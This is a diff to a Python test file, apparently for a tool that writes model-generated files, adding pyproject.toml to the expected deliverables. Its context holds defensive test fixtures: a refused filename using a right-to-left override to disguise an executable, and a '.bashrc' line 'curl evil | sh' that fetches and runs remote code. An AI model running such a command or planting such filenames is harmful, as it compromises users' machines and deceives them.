@@ -26,7 +26,12 @@ REFUSED = {
     "docs/invoice\u202efdp.exe": ("MZ", "formatting character"),
     "nul.txt": ("x", "device name"),
 }
-CODE = {"app/main.py": "print('hi')\n", "tests/test_backend_main.py": "def test_x():\n    pass\n"}
+# Every deliverable of backend_developer, so the step succeeds.
+CODE = {
+    "app/main.py": "print('hi')\n",
+    "tests/test_backend_main.py": "def test_x():\n    pass\n",
+    "pyproject.toml": "[project]\nname = 'x'\n",
+}
 
 
 async def _maestro(*args: str, cwd: Path) -> tuple[int, str, str]:
@@ -136,6 +141,7 @@ async def test_model_paths_never_touch_the_users_files(
             ".bashrc": b"curl evil | sh\n",
             "app": b"<dir>",
             "app/main.py": CODE["app/main.py"].encode(),
+            "pyproject.toml": CODE["pyproject.toml"].encode(),
             "tests": b"<dir>",
             "tests/test_backend_main.py": CODE["tests/test_backend_main.py"].encode(),
         }
